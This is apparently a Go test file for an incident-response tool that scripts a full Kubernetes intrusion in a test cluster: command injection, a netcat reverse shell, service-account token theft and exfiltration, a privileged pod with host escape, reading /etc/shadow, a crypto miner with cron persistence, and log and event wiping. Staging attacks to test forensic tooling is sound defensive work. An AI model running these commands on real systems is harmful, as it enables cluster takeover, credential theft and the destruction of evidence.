//go:build incident

package record

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"amber/testdata/testbed"
)

var out = flag.String("out", "", "the folder that the record is written to")

func netAddr(p testbed.Pod) netip.AddrPort { return netip.AddrPortFrom(p.Addr4, 8080) }

// TestRecord is the incident, from the shop's rollout to the responder's
// release.
func TestRecord(t *testing.T) {
	if *out == "" {
		t.Skip("no -out says where to record to")
	}
	if !inWorld(t) {
		return
	}
	compile(t, amberBin, "./cmd/amber")
	dir := t.TempDir()
	k, pod := startCluster(t, dir)
	a := &attack{
		t: t, k: k, web: pod, intruder: newHost(t, k), customer: newHost(t, k),
		diary: newDiary(pod, k),
	}
	a.diary.fact("intruder", a.intruder.Addr4.String())
	a.diary.fact("customer", a.customer.Addr4.String())
	a.run()
	caseDir := respond(t, k, a)
	lost := disarm(t)
	if lost != "0" {
		t.Errorf("the kernel has lost %s audit records", lost)
	}
	write(t, k, a, caseDir)
}

// attack is the intrusion. What the intruder does from outside goes through
// his host, and what he does inside through the shell that the pod gives him.
type attack struct {
	t                  *testing.T
	k                  *testbed.Kubernetes
	web                testbed.Pod
	intruder, customer host
	shell              *shell
	token              string // of the pod's service account
	diary              *diary
}

func (a *attack) run() {
	for _, s := range []struct {
		id    string
		do    func()
		pause time.Duration
	}{
		{"everyday", a.everyday, 2 * time.Second},
		{"recon", a.recon, 3 * time.Second},
		{"exploit", a.exploit, 2 * time.Second},
		{"shell", a.openShell, 2 * time.Second},
		{"discovery", a.discovery, 2 * time.Second},
		{"token", a.steal, 2 * time.Second},
		{"tool", a.bringTool, 2 * time.Second},
		{"api-inside", a.askInside, 2 * time.Second},
		{"exfiltration", a.exfiltrate, 2 * time.Second},
		{"privileged-pod", a.privilegedPod, 2 * time.Second},
		{"exec", a.exec, 2 * time.Second},
		{"escape", a.escape, 2 * time.Second},
		{"credentials", a.credentials, 2 * time.Second},
		{"miner", a.mine, 2 * time.Second},
		{"host-cron", a.hostCron, 2 * time.Second},
		{"cronjob", a.cronJob, 2 * time.Second},
		{"wipe-host", a.wipeHost, time.Second},
		{"wipe-pod", a.wipePod, time.Second},
		{"wipe-events", a.wipeEvents, 2 * time.Second},
	} {
		a.diary.during(s.id, s.do)
		time.Sleep(s.pause) // an intruder reads what he gets
	}
}

// everyday is what the shop's customers do.
func (a *attack) everyday() {
	for range 4 {
		a.customer.asks(a.t, a.web, "/", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
		a.customer.asks(a.t, a.web, "/cgi-bin/status?host=localhost:8080", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
		time.Sleep(3 * time.Second)
	}
}

func (a *attack) recon() {
	for _, path := range []string{"/", "/.git/config", "/admin", "/cgi-bin/", "/cgi-bin/status?host=localhost:8080"} {
		a.intruder.asks(a.t, a.web, path, "curl/8.14.1")
	}
}

// exploit has the status script run a command.
func (a *attack) exploit() { a.intruder.asks(a.t, a.web, inject("id"), "curl/8.14.1") }

// openShell has it give the intruder a shell.
func (a *attack) openShell() {
	a.shell = &shell{Server: a.intruder.Sink(a.t, 4444)}
	a.intruder.asks(a.t, a.web, inject(fmt.Sprintf("(nc %s 4444 -e /bin/sh >/dev/null 2>&1 &)", a.intruder.Addr4)), "curl/8.14.1")
	a.k.Eventually(a.t, "the intruder's shell", func(context.Context) error {
		if a.shell.Connections.Load() == 0 {
			return errors.New("nobody has connected")
		}
		return nil
	})
	a.shell.runs(a.t, "whoami")
}

func (a *attack) discovery() {
	for _, line := range []string{"uname -a", "hostname", "env", "cat /proc/self/status", "ls -la /var/run/secrets", "mount"} {
		a.shell.runs(a.t, line)
		time.Sleep(time.Second)
	}
}

const tokenFile, cloudToken = "/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"

func (a *attack) steal() {
	a.token = strings.TrimSpace(a.shell.runs(a.t, "cat "+tokenFile))
	if strings.Count(a.token, ".") != 2 {
		a.t.Fatalf("no token: %q", a.token)
	}
}

// tool is where the intruder's own client is, until he removes it.
const tool = "/tmp/.kc"

// bringTool downloads a client of the API: the image has none.
func (a *attack) bringTool() {
	a.intruder.serve(a.t, map[string]string{"pod.json": tuner, "xmrig": string(miner()), "sync.sh": "echo in step; hostname\n", "kc": clientProgram(a.t)})
	a.shell.runs(a.t, fmt.Sprintf("wget -q -O %s http://%s:8000/kc; chmod 755 %[1]s", tool, a.intruder.Addr4))
}

func (a *attack) askInside() {
	for _, path := range []string{
		"/apis/authentication.k8s.io/v1", "/api/v1/namespaces", "/api/v1/secrets", "/api/v1/nodes", "/api/v1/namespaces/kube-system/configmaps",
		"/api/v1/namespaces/billing/secrets/db-credentials", "/api/v1/namespaces/shop/secrets",
	} {
		a.shell.runs(a.t, tool+" GET "+path+" | head -c 200")
		time.Sleep(500 * time.Millisecond)
	}
}

func (a *attack) exfiltrate() {
	sink := a.intruder.Sink(a.t, 9001)
	a.shell.runs(a.t, fmt.Sprintf("cat %s %s | nc -w 2 %s 9001", tokenFile, cloudToken, a.intruder.Addr4))
	a.k.Eventually(a.t, "the tokens to arrive", func(context.Context) error {
		if !strings.Contains(sink.Got(), a.token) {
			return errors.New("they have not")
		}
		return nil
	})
}

const tuner = `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"node-tuner","namespace":"kube-system","labels":{"k8s-app":"node-tuner"}},
"spec":{"hostPID":true,"terminationGracePeriodSeconds":0,"containers":[{"name":"tuner","image":"` + toolImage + `","imagePullPolicy":"Never",
"command":["sleep","3600"],"securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}]}],
"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}`

const cron = `{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"node-tuner-sync","namespace":"kube-system"},
"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"backoffLimit":0,"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"sync","image":"` + toolImage + `",
"imagePullPolicy":"Never","command":["sh","-c","wget -q -O - http://%s:8000/sync.sh | sh"]}]}}}}}}`

// privilegedPod is made from inside, with what the intruder's server holds.
func (a *attack) privilegedPod() {
	a.shell.runs(a.t, fmt.Sprintf("wget -q -O /tmp/.p http://%s:8000/pod.json", a.intruder.Addr4))
	a.shell.runs(a.t, tool+" POST /api/v1/namespaces/kube-system/pods /tmp/.p | head -c 200")
	pod := a.k.WaitReady(a.t, "kube-system", "node-tuner")
	a.diary.fact("tuner_uid", pod.UID)
	a.diary.fact("tuner_container", pod.Containers["tuner"].ID)
	a.diary.fact("tuner_address", pod.Addr4.String())
}

// inTuner runs something in the privileged pod, from outside with the token.
func (a *attack) inTuner(line string) string {
	return a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "exec", "node-tuner", "--", "sh", "-c", line)
}

func (a *attack) exec() {
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "get", "pods")
	a.inTuner("id; ls /host")
}

func (a *attack) escape() {
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "exec", "node-tuner", "--", "chroot", "/host", "/bin/sh", "-c", "id; cat /etc/hostname; ls /etc/cron.d")
}

func (a *attack) credentials() {
	a.inTuner("chroot /host cat /etc/shadow")
}

const pool = "pool.example.com:3333"

func (a *attack) mine() {
	a.inTuner(fmt.Sprintf("mkdir -p /host/var/tmp/.sys && wget -q -O /host/var/tmp/.sys/xmrig http://%s:8000/xmrig && chmod 755 /host/var/tmp/.sys/xmrig", a.intruder.Addr4))
	a.inTuner("chroot /host nohup nice -n 19 /var/tmp/.sys/xmrig -o stratum+tcp://" + pool + " -u made.up.wallet --donate-level 1 --threads 1 >/dev/null 2>&1 </dev/null &")
}

func (a *attack) hostCron() {
	a.inTuner("echo '*/5 * * * * root /var/tmp/.sys/xmrig -o stratum+tcp://" + pool + "' >/host/etc/cron.d/node-tuner")
}

// cronJob is made from outside, and has run once when this returns.
func (a *attack) cronJob() {
	file := a.intruder.home + "/cron.json"
	if err := os.WriteFile(file, fmt.Appendf(nil, cron, a.intruder.Addr4), 0o600); err != nil {
		a.t.Fatal(err)
	}
	a.intruder.kubectl(a.t, a.k, a.token, "create", "--validate=false", "--filename="+file)
	a.k.Eventually(a.t, "the CronJob's first run", func(ctx context.Context) error {
		var list struct {
			Items []struct {
				Metadata struct{ Name string }
				Status   struct{ Succeeded int }
			}
		}
		if err := a.k.API(ctx, "GET", "/apis/batch/v1/namespaces/kube-system/jobs", nil, &list); err != nil {
			return err
		}
		if len(list.Items) == 0 || list.Items[0].Status.Succeeded == 0 {
			return errors.New("it has not run")
		}
		return nil
	})
}

func (a *attack) wipeHost() {
	a.inTuner("for f in auth.log syslog; do : >/host/var/log/$f; done; rm -f /host/var/log/wtmp /host/var/log/lastlog")
}

func (a *attack) wipePod() {
	a.shell.runs(a.t, ": >/var/log/web/status.log")
	a.shell.runs(a.t, "rm -f /tmp/.p "+tool)
}

func (a *attack) wipeEvents() {
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "delete", "events", "--all")
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=shop", "delete", "events", "--all")
}

// decode reads JSON that a program of ours has printed.
func decode(t *testing.T, data []byte, v any) {
	t.Helper()
	if err := json.Unmarshal(data, v); err != nil {
		t.Fatalf("%v in %.500s", err, data)
	}
}
